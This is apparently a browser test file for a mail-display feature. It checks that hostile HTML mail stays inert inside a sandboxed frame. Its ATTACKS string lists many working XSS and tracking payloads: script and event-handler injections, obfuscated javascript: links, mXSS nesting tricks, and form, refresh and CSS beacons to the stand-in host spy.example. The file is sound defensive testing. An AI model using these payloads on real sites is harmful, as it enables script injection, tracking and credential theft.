# ruff: noqa: E501 - attacks and links read better in long lines
"""A mail made to attack, in a real browser: nothing of it runs, nothing is asked for outside, nothing leaves its frame.

Three ways in, each by itself: as it is stored and shown; the frame's page alone with the second pass and without the first;
and the frame's policy and sandbox with no cleaning at all.
"""

import pytest

from hallway.inbox.cleaning import cleaned
from hallway.threads import frame
from hallway.threads.models import Message

pytestmark = pytest.mark.browser
SPY = "https://spy.example"
ATTACKS = f"""
<script>parent.caught=1;fetch('{SPY}/script')</script><script src="{SPY}/script.js"></script><SCRIPT/SRC={SPY}/s.js></SCRIPT>
<style>body{{background:url({SPY}/css)}} @import url({SPY}/import); @font-face{{font-family:x;src:url({SPY}/font)}} p{{font-family:x}}
.message-head{{position:fixed;inset:0}}</style><link rel=stylesheet href="{SPY}/link.css"><link rel=prefetch href="{SPY}/prefetch">
<link rel=preconnect href="{SPY}"><link rel=dns-prefetch href="//spy.example"><link rel=icon href="{SPY}/icon">
<div style="position:fixed;inset:0;z-index:9999;background:red url({SPY}/style)">cover</div><p style="background-image:url('{SPY}/bg')">x</p>
<table background="{SPY}/tablebg"><tr><td background="{SPY}/tdbg">x</td></tr></table><body background="{SPY}/bodybg" onload="fetch('{SPY}/onload')">
<img src="{SPY}/img.gif"><img src=x onerror="parent.caught=1;fetch('{SPY}/onerror')"><img srcset="{SPY}/srcset 1x" src="//spy.example/rel">
<picture><source srcset="{SPY}/source"><img src="data:text/html,x"></picture><input type=image src="{SPY}/input">
<video src="{SPY}/video" poster="{SPY}/poster" autoplay></video><audio src="{SPY}/audio" autoplay></audio><track src="{SPY}/track">
<svg onload="parent.caught=1"><image href="{SPY}/svgimage"/><use href="{SPY}/use#x"/><script>parent.caught=1</script><a xlink:href="javascript:parent.caught=1"><text>y</text></a>
<foreignObject><iframe src="{SPY}/fo"></iframe></foreignObject><animate attributeName=href values="javascript:parent.caught=1"/></svg>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=parent.caught=1&gt;"></math>
<math href="javascript:parent.caught=1">m</math><form><math><mtext></form><form><mglyph><style></math><img src onerror=parent.caught=1>
<svg></p><style><a id="</style><img src=1 onerror=parent.caught=1>"></svg><noscript><p title="</noscript><img src=x onerror=parent.caught=1>">
<template><img src=x onerror=parent.caught=1></template><xmp><p title="</xmp><img src=x onerror=parent.caught=1>">
<select><template><style><!--</style><a rel="--></style></template></select><img id=x src=x onerror=parent.caught=1>">
<iframe src="{SPY}/iframe"></iframe><iframe srcdoc="<script>top.caught=1</script><img src={SPY}/srcdoc>"></iframe>
<object data="{SPY}/object"></object><embed src="{SPY}/embed"><applet code="{SPY}/applet"></applet><frameset><frame src="{SPY}/frame"></frameset>
<meta http-equiv="refresh" content="0;url={SPY}/refresh"><meta http-equiv=Set-Cookie content="x=y"><meta name=referrer content=unsafe-url><base href="{SPY}/base/"><base target=_top>
<form action="{SPY}/form" id=f><input name=csrfmiddlewaretoken value=x autofocus onfocus="parent.caught=1;form.submit()"><button id=go>Sign in</button></form>
<button form=f formaction="{SPY}/formaction">go</button><isindex action="{SPY}/isindex"><keygen autofocus onfocus=parent.caught=1>
<a id=js href="javascript:parent.caught=1">js</a><a href="java&#x09;script:parent.caught=1">js</a><a href=" &#14; javascript:parent.caught=1">js</a>
<a href="JaVaScRiPt&colon;parent.caught=1">js</a><a href="&#106;&#97;vascript&#58;parent.caught=1">js</a><a href="vbscript:x">vb</a>
<a href="data:text/html,<script>opener.caught=1</script>">data</a><a href="blob:x">blob</a><a href="{SPY}/ping" ping="{SPY}/pinged">ping</a>
<a id=top href="{SPY}/top" target=_top>cedar.example/grades</a><a href="/account/logout/" target=_parent>ours</a><a href="file:///etc/passwd">file</a>
<details open ontoggle="parent.caught=1">d</details><marquee onstart=parent.caught=1>m</marquee><p onmouseover=parent.caught=1 id=app class="button button-lead">hover</p>
<div id=messages class="toasts"></div><portal src="{SPY}/portal"></portal><x onclick=parent.caught=1 tabindex=1 id=y style="animation-name:x" onanimationstart=parent.caught=1>
+ADw-script+AD4-parent.caught=1+ADw-/script+AD4- <plaintext>the end
"""
LINES = ATTACKS.strip().split("\n")
START = "<p>begins</p><table></table>"  # a table, so that there is more than words to show


@pytest.fixture
def attacked(house, ask):
    """A request with a mail for each attack, and one with all of them."""
    row = ask()
    for text in (*LINES, ATTACKS):
        row.reply(by=house.tess, text="Look", html=cleaned(START + text)[0], through="mail")
    return row


def watched(desk, house):
    """A page that lets nothing out: the addresses it asked for outside, filled as it goes."""
    outside = []

    def let(route):
        if route.request.url.startswith((house.url, "data:", "blob:")):
            return route.continue_()
        outside.append((route.request.url, route.request.all_headers()))
        return route.fulfill(status=200, content_type="image/gif", body=b"GIF89a")

    desk.context.route("**/*", let)
    return outside


def opened(desk, url):
    """The page with every mail unfolded and loaded; its frames."""
    desk.goto(url)
    folds = desk.locator(".message details.fold")
    assert folds.count() == len(LINES) + 1
    for number in range(folds.count()):
        folds.nth(number).locator("summary").click()
        folds.nth(number).frame_locator("iframe").get_by_text("begins").first.wait_for(state="attached")
    return [frame for frame in desk.frames if "/files/mail/" in frame.url]


def calm(desk, house, outside):
    """Nothing ran, nothing was asked for, and the page still stands where it was."""
    desk.wait_for_timeout(400)
    assert outside == []
    assert desk.evaluate("window.caught") is None
    assert desk.url.startswith(house.url)


def test_an_attack_that_was_stored(house, visit, attacked, axe, shot):
    desk = visit(house.ivan)
    outside = watched(desk, house)
    frames = opened(desk, f"/asks/{attacked.pk}/?all=1")
    calm(desk, house, outside)
    bad = (
        "script,form,input,iframe,object,svg,math,meta[http-equiv],base,link,[onclick],[style],[id],video,[background]"
    )
    assert [frame.locator(bad).count() for frame in frames] == [0] * len(frames)
    assert all(box["height"] < 600 for box in (each.bounding_box() for each in desk.locator("iframe").all()))
    shot(desk, "mail-frame")
    axe(desk)
    link = next(frame for frame in frames if frame.get_by_text("cedar.example/grades").count())
    link.get_by_text("leads to spy.example").first.wait_for()
    with desk.context.expect_page() as other:
        link.get_by_text("cedar.example/grades").click()
    assert other.value.evaluate("window.opener") is None
    assert desk.url.endswith(f"/asks/{attacked.pk}/?all=1"), "a link opens beside, never on top"
    assert "referer" not in outside[0][1]


@pytest.mark.parametrize("layer", ["second pass alone", "policy and sandbox alone"])
def test_each_layer_holds_without_the_others(house, visit, attacked, monkeypatch, layer):
    rows = Message.objects.filter(kind="reply").order_by("pk")
    for row, text in zip(rows, (*LINES, ATTACKS), strict=True):
        Message.objects.filter(pk=row.pk).update(html=START + text)
    if layer == "policy and sandbox alone":
        monkeypatch.setattr(frame, "shown", lambda html, *_more: html)
    desk = visit(house.ivan)
    outside = watched(desk, house)
    for inside in opened(desk, f"/asks/{attacked.pk}/?all=1"):
        for target in ("#js", "#go", "#top"):
            if layer == "policy and sandbox alone" and inside.locator(target).count():
                inside.locator(target).first.evaluate("each => each.click()")
    calm(desk, house, [each for each in outside if not each[0].startswith(f"{SPY}/top")])


def test_pictures_from_elsewhere_at_one_press(house, visit, attacked):
    desk = visit(house.ivan)
    outside = watched(desk, house)
    opened(desk, f"/asks/{attacked.pk}/?all=1")
    assert outside == []
    shows = desk.get_by_text("Show them this time")
    assert shows.count() >= 2
    shows.first.click()
    desk.wait_for_timeout(1500)
    assert {url for url, _headers in outside} == {f"{SPY}/img.gif"}
    for _url, headers in outside:
        assert "referer" not in headers
    assert desk.evaluate("window.caught") is None


@pytest.mark.parametrize("dark", [False, True])
def test_a_mail_on_a_phone_without_script(house, visit, ask, dark, shot):
    row = ask()
    text = "<p>begins</p><p>It shows <b>no picture</b> since this morning, see <a href='https://evil.example/x'>cedar.example/form</a> and <a href='https://docs.example/x'>the plan</a>.</p><table><tr><th>Room<td>12</table><blockquote>older words</blockquote>"
    row.reply(by=house.tess, text="It shows no picture since this morning.", html=cleaned(text)[0], through="mail")
    phone = visit(house.tess, width=390, script=False, dark=dark)
    phone.goto(f"/asks/{row.pk}/")
    phone.get_by_text("The whole mail", exact=True).click()
    phone.frame_locator("iframe.mail-frame").get_by_text("leads to evil.example").wait_for()
    shot(phone, f"mail-frame-phone-{'dark' if dark else 'light'}")
